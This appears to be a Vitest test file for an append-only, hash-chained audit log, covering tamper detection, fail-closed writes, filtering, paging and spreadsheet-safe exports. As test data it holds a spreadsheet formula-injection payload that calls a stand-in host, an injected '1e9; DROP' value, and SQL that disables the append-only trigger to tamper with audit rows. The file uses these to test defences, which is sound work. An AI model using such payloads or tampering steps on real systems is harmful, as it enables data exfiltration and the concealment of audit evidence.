import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { saveRegion } from "@/app/_server/admin/save-region";
import { checkAuditChain } from "@/app/_server/audit/audit-chain";
import { exportAuditEvents } from "@/app/_server/audit/export-audit-events";
import { listAuditEvents } from "@/app/_server/audit/list-audit-events";
import { actorOf, recordAudit } from "@/app/_server/audit/record-audit";
import { verifyAuditChain } from "@/app/_server/audit/verify-audit-chain";
import type { Session } from "@/app/_server/auth/session";
import { createUserSession, createWorld, type World } from "../helpers/fixtures";
import { useTestDatabase } from "../helpers/test-database";

/**
 * The audit log (等保 8.1.4.3, reference MLPS-10..13, T14–T16): complete rows, tamper detection down to the
 * first broken row, fail-closed writes, filters, exports safe to open in Excel, and no way to delete.
 */
describe("audit log", () => {
  const prisma = useTestDatabase();
  let w: World;
  let auditor: Session;
  let admin: Session;
  const sql = (q: string) => prisma().$executeRawUnsafe(q);
  /** Runs `change` on the audit table with its append-only trigger off, as a superuser could. */
  async function tamper(change: string) {
    await sql(`ALTER TABLE "AuditEvent" DISABLE TRIGGER "AuditEvent_append_only"`);
    try {
      await sql(change);
    } finally {
      await sql(`ALTER TABLE "AuditEvent" ENABLE TRIGGER "AuditEvent_append_only"`);
    }
  }

  beforeAll(async () => {
    w = await createWorld(prisma());
    auditor = await createUserSession(prisma(), ["AUDIT_ADMIN"], {}, "auditor1");
    admin = await createUserSession(prisma(), ["SYSTEM_ADMIN"], {}, "sysadmin1");
    await saveRegion(admin, { code: "340500", name: "马鞍山市", level: "CITY", provinceId: w.province.id });
    await saveRegion(admin, { code: "340600", name: "淮北市", level: "CITY", provinceId: w.province.id });
    const entry = await createUserSession(prisma(), ["DATA_ENTRY"], { regionId: w.regionA.id }, "entry1");
    // Text a spreadsheet would run as a formula, as an attacker could type it into a free-text field.
    await prisma().$transaction((tx) =>
      recordAudit(tx, actorOf(entry), {
        action: "test.formula",
        objectType: "Note",
        objectId: '=HYPERLINK("http://x/?"&A1,"y")',
        detail: { note: "@SUM(1)" },
      }),
    );
    await expect(saveRegion(entry, { code: "340700", name: "铜陵市", level: "CITY", provinceId: w.province.id })).rejects.toMatchObject({
      code: "FORBIDDEN",
    });
  });

  it("every row carries time, actor, role, scope, source IP, object, result and request id", async () => {
    const rows = await prisma().auditEvent.findMany({ where: { action: { in: ["region.create", "access.denied"] } } });
    expect(rows.length).toBe(3);
    for (const r of rows) {
      expect(r.at).toBeInstanceOf(Date);
      expect(r.actorId && r.actorName && r.actorRoles && r.ip && r.requestId && r.objectType && r.result).toBeTruthy();
    }
    const entryRow = rows.find((r) => r.action === "access.denied")!;
    expect(entryRow).toMatchObject({ actorName: "entry1", actorRoles: "DATA_ENTRY", scope: `region:${w.regionA.id}`, result: "DENIED" });
  });

  it("an intact chain verifies; the check is audited", async () => {
    const report = await verifyAuditChain(auditor);
    expect(report).toMatchObject({ ok: true, problem: null });
    expect(report.checked).toBe(await prisma().auditEvent.count({ where: { id: { lte: BigInt(report.last!.id) } } }));
    const trace = await prisma().auditEvent.findFirstOrThrow({ orderBy: { id: "desc" } });
    expect(trace).toMatchObject({ action: "audit.verify", result: "SUCCESS", actorName: "auditor1" });
  });

  it("the database refuses UPDATE and DELETE on audit rows", async () => {
    await expect(sql(`UPDATE "AuditEvent" SET "result" = 'SUCCESS'`)).rejects.toThrow();
    await expect(sql(`DELETE FROM "AuditEvent"`)).rejects.toThrow();
  });

  it("an edited field is found at its row; restoring it restores the chain", async () => {
    const victim = await prisma().auditEvent.findFirstOrThrow({ where: { action: "region.create" }, orderBy: { id: "desc" } });
    await tamper(`UPDATE "AuditEvent" SET "actorName" = 'someone_else' WHERE id = ${victim.id}`);
    const report = await checkAuditChain(prisma());
    expect(report.ok).toBe(false);
    expect(report.problem).toMatchObject({ kind: "EDITED", id: victim.id.toString(), action: "region.create" });
    // The page's use case reports the same, and records the finding as a FAILURE.
    expect((await verifyAuditChain(auditor)).problem?.id).toBe(victim.id.toString());
    expect(await prisma().auditEvent.findFirstOrThrow({ orderBy: { id: "desc" } })).toMatchObject({
      action: "audit.verify",
      result: "FAILURE",
      objectId: victim.id.toString(),
    });
    await tamper(`UPDATE "AuditEvent" SET "actorName" = '${victim.actorName}' WHERE id = ${victim.id}`);
    expect((await checkAuditChain(prisma())).ok).toBe(true);
  });

  it("a detail or result changed in place is found too", async () => {
    const victim = await prisma().auditEvent.findFirstOrThrow({ where: { action: "access.denied" } });
    await tamper(`UPDATE "AuditEvent" SET "result" = 'SUCCESS' WHERE id = ${victim.id}`);
    expect((await checkAuditChain(prisma())).problem).toMatchObject({ kind: "EDITED", id: victim.id.toString() });
    await tamper(`UPDATE "AuditEvent" SET "result" = 'DENIED' WHERE id = ${victim.id}`);
    const other = await prisma().auditEvent.findFirstOrThrow({ where: { action: "test.formula" } });
    await tamper(`UPDATE "AuditEvent" SET "detail" = '{"note":"harmless"}' WHERE id = ${other.id}`);
    expect((await checkAuditChain(prisma())).problem).toMatchObject({ kind: "EDITED", id: other.id.toString() });
    await tamper(`UPDATE "AuditEvent" SET "detail" = '{"note":"@SUM(1)"}' WHERE id = ${other.id}`);
    expect((await checkAuditChain(prisma())).ok).toBe(true);
  });

  it("a deleted row is found at the row after it; a deleted first row too", async () => {
    const rows = await prisma().auditEvent.findMany({ orderBy: { id: "asc" }, take: 3 });
    const [first, second, third] = rows;
    await tamper(`DELETE FROM "AuditEvent" WHERE id = ${second.id}`);
    expect((await checkAuditChain(prisma())).problem).toMatchObject({
      kind: "MISSING",
      id: third.id.toString(),
      afterId: first.id.toString(),
    });
    await tamper(`DELETE FROM "AuditEvent" WHERE id = ${first.id}`);
    expect((await checkAuditChain(prisma())).problem).toMatchObject({ kind: "MISSING_AT_START", id: third.id.toString(), afterId: null });
    // Put them back (INSERT is allowed): the chain is whole again.
    for (const r of [first, second]) await prisma().auditEvent.create({ data: { ...r, detail: r.detail ?? undefined } });
    expect((await checkAuditChain(prisma())).ok).toBe(true);
  });

  it("fails closed: when the audit row cannot be written, the change it records is rolled back", async () => {
    await sql(
      `CREATE FUNCTION audit_fault() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'audit store unavailable'; END $$`,
    );
    await sql(
      `CREATE TRIGGER "AuditEvent_fault" BEFORE INSERT ON "AuditEvent" FOR EACH ROW WHEN (NEW.action = 'region.create') EXECUTE FUNCTION audit_fault()`,
    );
    try {
      await expect(saveRegion(admin, { code: "340800", name: "安庆市", level: "CITY", provinceId: w.province.id })).rejects.toThrow();
      expect(await prisma().region.findUnique({ where: { code: "340800" } })).toBeNull();
    } finally {
      await sql(`DROP TRIGGER "AuditEvent_fault" ON "AuditEvent"`);
      await sql(`DROP FUNCTION audit_fault()`);
    }
    await saveRegion(admin, { code: "340800", name: "安庆市", level: "CITY", provinceId: w.province.id });
    expect(await prisma().region.findUnique({ where: { code: "340800" } })).not.toBeNull();
  });

  it("filters by time range, actor, action and result; the query itself is audited", async () => {
    const all = await listAuditEvents(auditor);
    expect(all.total).toBeGreaterThan(5);
    const denied = await listAuditEvents(auditor, { result: "DENIED" });
    expect(denied.events.map((e) => e.actorName)).toContain("entry1");
    expect(denied.events.every((e) => e.result === "DENIED")).toBe(true);
    const regions = await listAuditEvents(auditor, { action: "region.", actor: "SYSADMIN" });
    expect(regions.events.map((e) => e.action).sort()).toEqual(["region.create", "region.create", "region.create"]);
    const today = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
    expect((await listAuditEvents(auditor, { from: today, to: today, action: "region." })).total).toBe(3);
    expect((await listAuditEvents(auditor, { from: "2020-01-01", to: "2020-01-31" })).total).toBe(0);
    await expect(listAuditEvents(auditor, { from: "2026-02-01", to: "2026-01-01" })).rejects.toMatchObject({ code: "INVALID" });
    const trace = await prisma().auditEvent.findFirstOrThrow({ orderBy: { id: "desc" } });
    expect(trace).toMatchObject({ action: "audit.query", actorName: "auditor1" });
    expect(trace.detail).toMatchObject({ filter: { from: "2020-01-01", to: "2020-01-31" } });
  });

  it("pages the log on the server: 20 newest first, later pages fixed to the first reading, a page past the end is the last", async () => {
    const actor = actorOf(admin);
    const probe = (k: number) => prisma().$transaction((tx) => recordAudit(tx, actor, { action: "paging.probe", detail: { k } }));
    for (let k = 0; k < 45; k++) await probe(k);
    const k = (e: { detail: string | null }) => JSON.parse(e.detail!).k;
    const countdown = (from: number, n: number) => Array.from({ length: n }, (_, i) => from - i);

    const first = await listAuditEvents(auditor, { action: "paging." });
    expect(first).toMatchObject({ total: 45, page: 1, pageSize: 20 });
    expect(first.events.map(k)).toEqual(countdown(44, 20));
    // Events written after the first page was read do not shift the next pages of that reading.
    for (let j = 45; j < 50; j++) await probe(j);
    const upTo = first.upTo;
    const second = await listAuditEvents(auditor, { action: "paging." }, { page: 2, upTo });
    expect(second).toMatchObject({ total: 45, page: 2, upTo });
    expect(second.events.map(k)).toEqual(countdown(24, 20));
    const last = await listAuditEvents(auditor, { action: "paging." }, { page: 99, upTo });
    expect(last.page).toBe(3);
    expect(last.events.map(k)).toEqual(countdown(4, 5));
    // A new reading sees them; a nonsense page or bound is the first page of a new reading.
    const fresh = await listAuditEvents(auditor, { action: "paging." }, { page: -4, upTo: "1e9; DROP" });
    expect(fresh).toMatchObject({ total: 50, page: 1 });
    expect(fresh.events.map(k).slice(0, 6)).toEqual(countdown(49, 6));
    const trace = await prisma().auditEvent.findFirstOrThrow({ orderBy: { id: "desc" } });
    expect(trace).toMatchObject({ action: "audit.query", actorName: "auditor1" });
    expect(trace.detail).toMatchObject({ filter: { action: "paging." }, total: 50, page: 1 });
  });

  it("exports CSV and xlsx with formula-like text neutralised, and audits the export", async () => {
    const csv = await exportAuditEvents(auditor, { filter: { action: "test." }, format: "csv" });
    const text = csv.bytes.toString("utf8");
    expect(text.startsWith("\uFEFF序号,时间（UTC）,操作人")).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1,""y"")"`);
    expect(csv.fileName).toMatch(/^审计日志-\d{4}-\d{2}-\d{2}\.csv$/);

    const xlsx = await exportAuditEvents(auditor, { filter: { action: "test." }, format: "xlsx" });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("审计日志")!;
    expect(ws.rowCount).toBe(2);
    const cells = (ws.getRow(2).values as unknown[]).slice(1).map(String);
    expect(cells).toContain(`'=HYPERLINK("http://x/?"&A1,"y")`);
    // The detail column is JSON text starting with "{", which no spreadsheet runs: left as it is.
    expect(cells).toContain(`{"note":"@SUM(1)"}`);
    const trace = await prisma().auditEvent.findFirstOrThrow({ orderBy: { id: "desc" } });
    expect(trace).toMatchObject({ action: "audit.export", actorName: "auditor1" });
    expect(trace.detail).toMatchObject({ format: "xlsx", rows: 1 });
  });

  it("nothing in the code deletes or prunes audit rows (retention ≥ 180 days is unlimited online retention)", () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) {
          if (!["generated", "node_modules"].includes(e.name)) walk(p);
        } else if (/\.(ts|tsx|mjs|sql)$/.test(e.name)) {
          const t = fs.readFileSync(p, "utf8");
          if (/auditEvent\.(delete|deleteMany|update|updateMany|upsert)\b|(DELETE\s+FROM|TRUNCATE|UPDATE)\s+"?AuditEvent"?/i.test(t))
            offenders.push(p);
        }
      }
    };
    for (const d of ["app", "scripts", "prisma", "components"]) walk(d);
    expect(offenders).toEqual([]);
  });
});

describe("npm run audit:verify", () => {
  it("exits 0 on an intact log and 1 naming the first tampered row", async () => {
    const { spawnSync } = await import("node:child_process");
    const os = await import("node:os");
    const { PGlite } = await import("@electric-sql/pglite");
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "liangdi-audit-"));
    const env = { ...process.env, LIANGDI_DATA_DIR: dir, LIANGDI_ADMIN_PASSWORD: "Install#2026x", DATABASE_URL: "" };
    const run = (script: string, ...args: string[]) =>
      spawnSync(process.execPath, ["node_modules/tsx/dist/cli.mjs", "--conditions=react-server", script, ...args], {
        env,
        encoding: "utf8",
      });
    try {
      expect(run("scripts/create-admin.ts", "first_admin", "SYSTEM_ADMIN").status).toBe(0);
      expect(run("scripts/create-admin.ts", "first_auditor", "AUDIT_ADMIN").status).toBe(0);
      const ok = run("scripts/audit-verify.ts");
      expect(ok.status, ok.stderr).toBe(0);
      expect(ok.stdout).toContain("哈希链完整：已校验 2 条记录");

      const pg = await PGlite.create(path.join(dir, "pgdata"));
      await pg.exec(`ALTER TABLE "AuditEvent" DISABLE TRIGGER "AuditEvent_append_only";
        UPDATE "AuditEvent" SET "detail" = '{"username":"first_auditor","roles":["SYSTEM_ADMIN"]}' WHERE id = (SELECT max(id) FROM "AuditEvent");
        ALTER TABLE "AuditEvent" ENABLE TRIGGER "AuditEvent_append_only";`);
      const { rows } = await pg.query<{ id: string }>(`SELECT max(id)::text AS id FROM "AuditEvent"`);
      await pg.close();

      const bad = run("scripts/audit-verify.ts", "--json");
      expect(bad.status).toBe(1);
      expect(JSON.parse(bad.stdout)).toMatchObject({
        ok: false,
        checked: 1,
        problem: { kind: "EDITED", id: rows[0].id, action: "user.create" },
      });
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
